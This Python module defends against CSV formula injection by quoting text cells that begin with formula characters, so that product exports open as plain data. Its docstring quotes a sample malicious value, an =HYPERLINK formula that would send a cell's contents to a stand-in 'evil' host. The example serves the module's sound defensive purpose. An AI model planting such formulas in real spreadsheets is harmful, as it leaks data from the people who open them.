"""CSV cells that a spreadsheet opens as data, never as a formula (OWASP "CSV injection").

Every CSV the product writes (report files, the admin export, bulk-import rejects) passes
its cells through :func:`csv_cell`. A text cell starting with ``=``, ``+``, ``-``, ``@``,
tab or carriage return gets a leading single quote, which spreadsheets read as "this is
text" — so a patient named ``=HYPERLINK("http://evil/?"&A1)`` stays a name on the
clinician's machine.

Numbers are the one exception, decided by their Python type, not by how they look: an
``int``, ``float`` or ``Decimal`` that the product computed (a count, a negative balance)
is written as is, because a spreadsheet parses ``-3.2`` as a number and it can carry no
formula. A *string* that merely looks numeric (``"-3.2"``, ``"+44 20 7946 0000"``) is
user-controlled text and is prefixed like any other.
"""

from __future__ import annotations

from collections.abc import Iterable
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> object:
    """``value`` as a CSV cell: numbers unchanged, text neutralised if it starts a formula."""
    if value is None:
        return ""
    # bool is an int subclass, but "True" is text, and never starts a formula anyway.
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_row(values: Iterable[object]) -> list[object]:
    return [csv_cell(value) for value in values]
